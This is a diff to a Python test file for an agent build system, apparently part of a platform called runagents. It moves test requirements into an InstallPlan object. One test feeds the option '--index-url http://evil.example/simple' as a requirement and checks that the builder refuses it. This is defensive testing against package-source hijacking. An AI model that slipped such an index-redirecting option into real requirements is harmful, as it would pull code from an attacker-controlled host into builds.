@@ -6,6 +6,7 @@ import subprocess
 from pathlib import Path
 
 import pytest
+from runagents_contracts.install_plan import InstallPlan
 
 from runagents_builder.artifacts.base import BuildError, BuildInput
 from runagents_builder.artifacts.install_plan import Install
@@ -53,14 +54,16 @@ async def test_a_build_makes_a_venv_with_nothing_of_the_platform_and_reuses_it_f
 
 
 async def test_a_requirement_that_does_not_exist_fails_the_build_with_the_installer_message(tmp_path: Path) -> None:
-    request = BuildInput("b1", "hello", source(tmp_path, "runagents-surely-no-such-package-4242\n"), "d", [])
+    request = BuildInput("b1", "hello", source(tmp_path, None), "d", [], InstallPlan(
+        source="requirements.txt", requirements=["runagents-surely-no-such-package-4242"]))
     with pytest.raises(BuildError, match="package installation failed"):
         await builder(tmp_path).build(request, no_progress)
     assert not any(p.name.endswith(".tmp") for p in (tmp_path / "builds" / "envs").iterdir())
 
 
 async def test_requirement_options_that_reach_outside_the_upload_are_refused(tmp_path: Path) -> None:
-    request = BuildInput("b1", "hello", source(tmp_path, "--index-url http://evil.example/simple\nrequests\n"), "d", [])
+    request = BuildInput("b1", "hello", source(tmp_path, None), "d", [], InstallPlan(
+        source="requirements.txt", requirements=["--index-url http://evil.example/simple", "requests"]))
     with pytest.raises(BuildError, match=r"--index-url http://evil\.example/simple"):
         await builder(tmp_path).build(request, no_progress)
 
